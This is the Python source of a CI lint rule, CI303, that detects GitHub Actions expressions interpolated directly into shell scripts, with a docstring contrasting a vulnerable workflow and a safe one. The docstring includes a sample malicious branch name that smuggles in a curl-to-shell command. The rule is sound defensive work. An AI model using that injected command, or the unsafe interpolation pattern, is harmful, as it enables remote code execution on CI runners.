"""An expression is pasted into a script.

## What it does
Reports `${{ }}` inside `run:` and inside the `script` of actions/github-script. It is an error where it reads what a
stranger can write (titles, branches, messages, inputs, outputs of steps), in any workflow; other expressions are a
warning in files with a gate.

## Why is this bad?
GitHub pastes the value before the shell reads the line: a branch called `a";curl example.org|sh;#` runs. A variable
of the environment is data.

## Example
```yaml
on: [pull_request]
permissions: {contents: read}
jobs:
  gate:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with: {fetch-depth: 0, persist-credentials: false}
      - run: penstock gate --base origin/main --head ${{ github.head_ref }}
```

## Use instead
```yaml
on: [pull_request]
permissions: {contents: read}
jobs:
  gate:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with: {fetch-depth: 0, persist-credentials: false}
      - run: penstock gate --base origin/main --head "origin/$BRANCH"
        env: {BRANCH: "${{ github.head_ref }}"}
```
"""

import re
from collections.abc import Iterator
from dataclasses import replace

from penstock.diagnostics.location import Location, Within
from penstock.forge.ci_rule import Finding, Pipeline, Repository, Severity, Wording
from penstock.forge.pipeline import Step

CODE = "CI303"
SEVERITY = Severity.ERROR


_WRITTEN = re.compile(
    r"github\.(head_ref|ref_name|ref\b|actor|triggering_actor)|github\.event\.(?!number|action)|inputs\.|outputs\.|"
    r"github\.event\b(?!_|\.)|client_payload"
)


def find(pipeline: Pipeline, repository: Repository) -> Iterator[Finding]:
    if pipeline.sort == "gitlab":
        return
    for job in pipeline.jobs:
        for step in job.steps:
            for at, script in _scripts(step):
                for start, end in _expressions(script):
                    is_written = _WRITTEN.search(script, start, end) is not None
                    if is_written or pipeline.judges:
                        expression = " ".join(script[start:end].split())
                        message = f"`{expression}` is pasted into a script before the shell reads it"
                        help = f'give it by `env: {{NAME: "{expression}"}}` and write `"$NAME"`'
                        severity = Severity.ERROR if is_written else Severity.WARNING
                        place = replace(at, within=_within(script, start, end))
                        yield Finding(place, Wording(message, help, severity=severity))


def _expressions(script: str) -> Iterator[tuple[int, int]]:
    start = script.find("${{")
    while start >= 0 and (end := script.find("}}", start)) >= 0:
        yield start, end + 2
        start = script.find("${{", end)


def _scripts(step: Step) -> Iterator[tuple[Location, str]]:
    for script in step.scripts:
        yield script.at, script.text
    if "/github-script@" in step.uses and isinstance(step.given.get("script"), str):
        yield step.at.at("with", "script"), step.given["script"]


def _within(text: str, start: int, end: int) -> Within:
    def place(at: int) -> tuple[int, int]:
        return text.count("\n", 0, at), at - (text.rfind("\n", 0, at) + 1)

    return Within(*place(start), *place(end))
